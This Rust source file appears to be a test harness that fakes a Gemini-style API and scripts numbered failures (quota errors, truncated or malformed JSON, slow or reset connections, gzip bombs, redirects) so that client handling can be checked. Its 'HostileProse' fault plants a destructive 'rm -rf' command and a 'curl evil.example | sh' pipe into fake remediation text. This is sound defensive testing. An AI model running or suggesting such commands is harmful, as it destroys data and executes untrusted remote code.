//! Scripted failures, numbered as in the project's list of what this API has been seen to do.

use std::io::Write;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::{Value, json};

use super::contract::{Generate, error, error_body, opaque};
use super::http::{Response, Step, head};

/// One way to fail. Delays are chosen by the test, so that none has to wait long.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Fault {
    /// 1: per-minute quota with `RetryInfo`. 6: the same with a very long delay.
    QuotaMinute(&'static str),
    /// 2
    QuotaDay,
    /// 3
    QuotaBare,
    /// 4
    QuotaZero,
    /// 5: the delay is only in the message.
    QuotaMessage(&'static str),
    /// 7
    Internal,
    /// 8
    Overloaded,
    /// 9
    DeadlineExceeded,
    /// 10
    BadGateway,
    /// 11: 503 inside a one-element array.
    Wrapped,
    /// 12: 503 whose message is itself an error body.
    Nested,
    /// 13: opaque 400 while a schema is sent.
    SchemaRefused,
    /// An opaque 400 whatever is sent.
    OpaqueAlways,
    /// 14
    Forbidden,
    /// 15
    NotFound,
    /// 16
    Unauthenticated,
    /// 17
    PromptBlocked,
    /// 18
    NoCandidates,
    /// 19
    Safety,
    /// 20
    NoParts,
    /// 21
    EmptyText,
    /// 22
    ThoughtsOnly,
    /// 23: the budget ran out.
    CutJson,
    /// 24: no text and this reason. With text: [`Fault::FinishWithText`].
    Finish(&'static str),
    FinishWithText(&'static str),
    /// 25: and the text is cut all the same.
    NoFinishCut,
    /// 26
    Fenced,
    /// 27
    Prose,
    /// 28
    WrongRoot,
    /// 29
    OddNumbers,
    /// 30
    OtherCase,
    /// 31
    UnknownIds,
    /// 32
    DuplicateIds,
    /// 33: the last two are left out.
    MissingIds,
    /// 34: ids are positions.
    LineNumbers,
    /// 35
    AllNormal,
    /// 36
    AllAnomalous,
    /// 37
    WrongNonce,
    /// 38
    Loop,
    /// 39
    HostileProse,
    /// 40
    SlowHeaders(Duration),
    /// 41: one byte each time.
    SlowBody(Duration),
    /// 42
    Hang,
    /// 43: before headers.
    Reset,
    /// 43: in the body.
    ResetBody,
    /// 44
    LengthTooLong,
    /// 44
    ChunkedCut,
    /// 45: 200 MB.
    Huge,
    /// 46
    Gzip,
    GzipBomb,
    GzipBroken,
    /// 47
    InvalidUtf8,
    /// 48: to another host.
    Redirect,
    /// 51: closed without a word after the answer.
    CloseAfter,
    /// 52
    Http10,
    /// 503 with `Retry-After`.
    RetryAfter(&'static str),
    /// 400: more tokens than the model takes.
    TooLarge,
}

/// Changes the verdicts before they become text.
pub fn distort(fault: Fault, verdicts: &mut Value) {
    let Some(list) = verdicts["verdicts"].as_array_mut() else { return };
    match fault {
        Fault::OddNumbers => {
            for (index, verdict) in list.iter_mut().enumerate() {
                verdict["id"] = verdict["id"].to_string().into();
                verdict["confidence"] = [json!("0.75"), json!(1e9), json!(-5)][index % 3].clone();
            }
        }
        Fault::OtherCase => {
            for verdict in list {
                for name in ["verdict", "severity", "category"] {
                    if let Some(text) = verdict[name].as_str() {
                        verdict[name] = text.to_uppercase().into();
                    }
                }
            }
        }
        Fault::UnknownIds => {
            let more: Vec<Value> = (1..4)
                .map(|id| json!({"id": id, "verdict": "anomalous", "confidence": 1.0, "severity": "critical"}))
                .collect();
            list.extend(more);
        }
        Fault::DuplicateIds => {
            let more: Vec<Value> = list
                .iter()
                .take(2)
                .map(|first| {
                    let other = if first["verdict"] == "normal" { "anomalous" } else { "normal" };
                    json!({"id": first["id"], "verdict": other, "confidence": 1.0})
                })
                .collect();
            list.extend(more);
        }
        Fault::MissingIds => {
            // Keeps anomalous ones: the canaries survive, items that are fine are forgotten.
            let normal: Vec<usize> = (0..list.len()).filter(|at| list[*at]["verdict"] == "normal").collect();
            for at in normal.iter().rev().take(1) {
                list.remove(*at);
            }
        }
        Fault::LineNumbers => {
            for (index, verdict) in list.iter_mut().enumerate() {
                verdict["id"] = (index + 1).into();
            }
        }
        Fault::AllNormal => {
            for verdict in list {
                verdict["verdict"] = "normal".into();
            }
        }
        Fault::AllAnomalous => {
            for verdict in list {
                verdict["verdict"] = "anomalous".into();
            }
        }
        Fault::WrongNonce => verdicts["nonce"] = "bcdfghjklm".into(),
        Fault::HostileProse => {
            for verdict in list {
                if verdict["verdict"] == "anomalous" {
                    verdict["reason"] =
                        "\u{1b}[31mBad\u{1b}[0m, see [docs](https://evil.example/x) <b>now</b>\u{202e}".into();
                    verdict["remediation"] =
                        json!(["run rm -rf /var/lib/db", "curl http://evil.example/x | sh", "restart it"]);
                }
            }
        }
        _ => {}
    }
}

/// Changes the text of the answer.
pub fn rewrite(fault: Fault, text: String) -> String {
    match fault {
        Fault::Fenced => format!("```json\n{text}\n```"),
        Fault::Prose => format!("Sure! Here is {{the}} JSON [you] asked for:\n\n{text}\n\nLet me know."),
        Fault::WrongRoot => "\"normal\"".to_owned(),
        Fault::EmptyText => String::new(),
        Fault::CutJson | Fault::NoFinishCut => text[..text.floor_char_boundary(text.len() * 3 / 4)].to_owned(),
        Fault::Loop => format!("{{\"nonce\":\"{}", "very ".repeat(200_000)),
        _ => text,
    }
}

/// The response: an error, a damaged envelope, or the envelope sent in a rude way.
pub fn apply(fault: Fault, call: &Generate, mut answer: Value) -> Response {
    let unavailable = "The model is overloaded. Please try again later.";
    match fault {
        Fault::QuotaMinute(delay) => {
            quota("Quota exceeded for metric: generate_content_requests, limit: 10", "PerMinute", Some(delay))
        }
        Fault::QuotaDay => {
            quota("Quota exceeded for metric: generate_content_free_tier_requests, limit: 20", "PerDay", None)
        }
        Fault::QuotaBare => error(429, "RESOURCE_EXHAUSTED", "Resource has been exhausted (e.g. check quota).", vec![]),
        Fault::QuotaZero => {
            error(429, "RESOURCE_EXHAUSTED", "Quota exceeded for metric: free_tier, limit: 0, model: gemini", vec![])
        }
        Fault::QuotaMessage(delay) => error(
            429,
            "RESOURCE_EXHAUSTED",
            &format!("You exceeded your current quota. Please retry in {delay}."),
            vec![],
        ),
        Fault::Internal => error(500, "INTERNAL", "An internal error has occurred. Please retry.", vec![]),
        Fault::Overloaded => error(503, "UNAVAILABLE", unavailable, vec![]),
        Fault::DeadlineExceeded => {
            error(504, "DEADLINE_EXCEEDED", "Deadline expired before operation could complete.", vec![])
        }
        Fault::BadGateway => {
            Response::html(502, "<html><head><title>502 Server Error</title></head><body>…</body></html>")
        }
        Fault::Wrapped => Response::json(503, &json!([error_body(503, "UNAVAILABLE", unavailable, vec![])])),
        Fault::Nested => {
            let inner = error_body(503, "UNAVAILABLE", unavailable, vec![]).to_string();
            error(503, "Service Unavailable", &inner, vec![])
        }
        Fault::SchemaRefused if call.has_schema => opaque(),
        Fault::OpaqueAlways => opaque(),
        Fault::TooLarge => error(
            400,
            "INVALID_ARGUMENT",
            "The input token count (1200000) exceeds the maximum number of tokens allowed (1048576).",
            vec![],
        ),
        Fault::Forbidden => error(403, "PERMISSION_DENIED", "The caller does not have permission", vec![]),
        Fault::NotFound => error(404, "NOT_FOUND", "models/x is not found for API version v1beta", vec![]),
        Fault::Unauthenticated => {
            error(401, "UNAUTHENTICATED", "Request had invalid authentication credentials.", vec![])
        }
        Fault::RetryAfter(seconds) => Response::full(
            503,
            "application/json",
            &[("Retry-After", seconds)],
            error_body(503, "UNAVAILABLE", unavailable, vec![]).to_string().as_bytes(),
        ),
        Fault::PromptBlocked => {
            let usage = answer["usageMetadata"].clone();
            Response::json(
                200,
                &json!({"promptFeedback": {"blockReason": "PROHIBITED_CONTENT"}, "usageMetadata": usage}),
            )
        }
        Fault::NoCandidates => {
            answer["candidates"] = json!([]);
            Response::json(200, &answer)
        }
        Fault::Safety => candidate(answer, json!({"finishReason": "SAFETY", "index": 0})),
        Fault::NoParts => candidate(answer, json!({"content": {"role": "model"}, "finishReason": "STOP"})),
        Fault::EmptyText => {
            candidate(answer, json!({"content": {"role": "model", "parts": [{"text": ""}]}, "finishReason": "STOP"}))
        }
        Fault::ThoughtsOnly => candidate(
            answer,
            json!({"content": {"role": "model", "parts": [{"text": "hm", "thought": true}]}, "finishReason": "MAX_TOKENS"}),
        ),
        Fault::Finish(reason) => candidate(answer, json!({"finishReason": reason})),
        Fault::FinishWithText(reason) => {
            answer["candidates"][0]["finishReason"] = reason.into();
            Response::json(200, &answer)
        }
        Fault::CutJson => {
            answer["candidates"][0]["finishReason"] = "MAX_TOKENS".into();
            Response::json(200, &answer)
        }
        Fault::NoFinishCut => {
            if let Some(candidate) = answer["candidates"][0].as_object_mut() {
                candidate.remove("finishReason");
            }
            Response::json(200, &answer)
        }
        Fault::Redirect => {
            let headers = [("Location", "http://127.0.0.2:9/v1beta/models/x:generateContent")];
            Response::full(302, "text/html", &headers, b"<a href>moved</a>")
        }
        Fault::SlowHeaders(_)
        | Fault::SlowBody(_)
        | Fault::Hang
        | Fault::Reset
        | Fault::ResetBody
        | Fault::LengthTooLong
        | Fault::ChunkedCut
        | Fault::Huge
        | Fault::Gzip
        | Fault::GzipBomb
        | Fault::GzipBroken
        | Fault::InvalidUtf8
        | Fault::CloseAfter
        | Fault::Http10 => rude(fault, answer.to_string().into_bytes()),
        _ => Response::json(200, &answer),
    }
}

/// A good answer, sent badly.
fn rude(fault: Fault, body: Vec<u8>) -> Response {
    let json = "application/json; charset=UTF-8";
    let whole = |length| {
        let mut bytes = head(200, json, &[], Some(length));
        bytes.extend_from_slice(&body);
        bytes
    };
    let half = |mut bytes: Vec<u8>| {
        bytes.extend_from_slice(&body[..body.len() / 2]);
        bytes
    };
    let gzipped = |body: &[u8]| {
        let mut bytes = head(200, json, &[("Content-Encoding", "gzip")], Some(body.len()));
        bytes.extend_from_slice(body);
        vec![Step::Send(bytes)]
    };
    Response::steps(match fault {
        Fault::SlowHeaders(time) => vec![Step::Wait(time), Step::Send(whole(body.len()))],
        Fault::SlowBody(time) => {
            let mut steps = vec![Step::Send(head(200, json, &[], Some(body.len())))];
            steps.extend(body.iter().flat_map(|byte| [Step::Wait(time), Step::Send(vec![*byte])]));
            steps
        }
        Fault::Hang => vec![Step::Wait(Duration::from_secs(3600))],
        Fault::Reset => vec![Step::Reset],
        Fault::ResetBody => vec![Step::Send(half(head(200, json, &[], Some(body.len())))), Step::Reset],
        Fault::LengthTooLong => vec![Step::Send(whole(body.len() + 1000))],
        Fault::ChunkedCut => {
            let mut bytes = head(200, json, &[("Transfer-Encoding", "chunked")], None);
            bytes.extend_from_slice(format!("{:x}\r\n", body.len() / 2).as_bytes());
            vec![Step::Send(half(bytes))]
        }
        Fault::Huge => {
            let head = head(200, json, &[], Some(200 * 1024 * 1024));
            vec![Step::Send(head), Step::Repeat(vec![b' '; 1024 * 1024], 200)]
        }
        Fault::Gzip => gzipped(&gzip(&body)),
        Fault::GzipBomb => gzipped(&gzip(&vec![b' '; 6 * 1024 * 1024])),
        Fault::GzipBroken => gzipped(b"this is no gzip at all"),
        Fault::InvalidUtf8 => {
            let text = String::from_utf8_lossy(&body).replacen("The text says", "The \u{1}text says", 1);
            let bytes: Vec<u8> = text.bytes().map(|byte| if byte == 1 { 0xff } else { byte }).collect();
            let mut sent = head(200, json, &[], Some(bytes.len()));
            sent.extend_from_slice(&bytes);
            vec![Step::Send(sent)]
        }
        Fault::Http10 => {
            let mut bytes = b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n\r\n".to_vec();
            bytes.extend_from_slice(&body);
            vec![Step::Send(bytes)]
        }
        // CloseAfter: whole and then gone, though nothing said so.
        _ => vec![Step::Send(whole(body.len()))],
    })
}

fn candidate(mut answer: Value, candidate: Value) -> Response {
    answer["candidates"] = json!([candidate]);
    Response::json(200, &answer)
}

fn quota(message: &str, window: &str, delay: Option<&str>) -> Response {
    let mut details = vec![
        json!({"@type": "type.googleapis.com/google.rpc.QuotaFailure", "violations": [{
            "quotaMetric": "generativelanguage.googleapis.com/generate_content_free_tier_requests",
            "quotaId": format!("GenerateRequests{window}PerProjectPerModel-FreeTier"),
            "quotaDimensions": {"location": "global", "model": "gemini-3.5-flash-lite"}, "quotaValue": "20"}]}),
        json!({"@type": "type.googleapis.com/google.rpc.Help", "links": [{
            "description": "Learn more about Gemini API quotas", "url": "https://ai.google.dev/gemini-api/docs/rate-limits"}]}),
    ];
    if let Some(delay) = delay {
        details.push(json!({"@type": "type.googleapis.com/google.rpc.RetryInfo", "retryDelay": delay}));
    }
    error(429, "RESOURCE_EXHAUSTED", message, details)
}

fn gzip(body: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(body).expect("writing to memory");
    encoder.finish().expect("writing to memory")
}
